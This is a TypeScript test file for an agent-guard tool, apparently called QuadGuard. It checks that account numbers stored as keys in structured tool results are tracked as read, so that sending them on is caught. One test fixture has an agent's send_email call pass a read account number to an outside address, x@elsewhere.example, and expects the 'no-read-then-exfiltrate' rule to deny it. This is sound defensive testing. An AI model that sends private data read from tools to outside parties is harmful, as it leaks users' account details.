/**
 * Keys of a result's structured content (or of any block type QuadGuard does not know) can carry data: records keyed
 * by account number, tokens as map keys. contentText read only keys holding white space or longer than 40
 * characters (text), so private data a result held as a key was never recorded as read, and sending it on later was
 * allowed (fails before). Plain words (`text`, `file_name`) are still left out of the text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import '../../src/detectors/index.js';
import { contentText } from '../../src/core/fields.js';
import type { ContentBlock } from '../../src/core/types.js';
import type { Interaction } from '../../src/core/types.js';
import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
const structured = (value: unknown) => ({ type: 'structured_content', structuredContent: value }) as unknown as ContentBlock;

describe('keys of structured content', () => {
  it('contentText keeps keys other than plain words', () => {
    expect(contentText([structured({ accounts: { '7731-5519-2284': { owner: 'Ann' } }, file_name: 'a.txt' })])).toBe('7731-5519-2284\nAnn\na.txt');
    expect(contentText([{ type: 'text', text: 'hello' }])).toBe('hello');
  });

  describe('under the default book', () => {
    let guard: BuiltGuard;
    const reader = { agent: 'reader', session: 'session-r', profile: {} };
    const check = (i: Record<string, unknown>) => guard.pipeline.check({ ...reader, ...i } as Interaction);
    beforeAll(async () => {
      guard = await buildGuard({ policy: DEFAULT_BOOK, store: ':memory:' });
    });
    afterAll(async () => guard?.close());

    it('records private data held as a key, and denies sending it on', async () => {
      const read = await check({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: 'ok' }, structured({ accounts: { '7731-5519-2284': { owner: 'Ann' } } })] });
      expect(read.decision).toBe('allow');
      const d = await check({ kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'x@elsewhere.example', subject: 's', body: 'acct 7731-5519-2284' } });
      expect(d.decision).toBe('deny');
      expect(d.rules).toContain('no-read-then-exfiltrate');
    });
  });
});
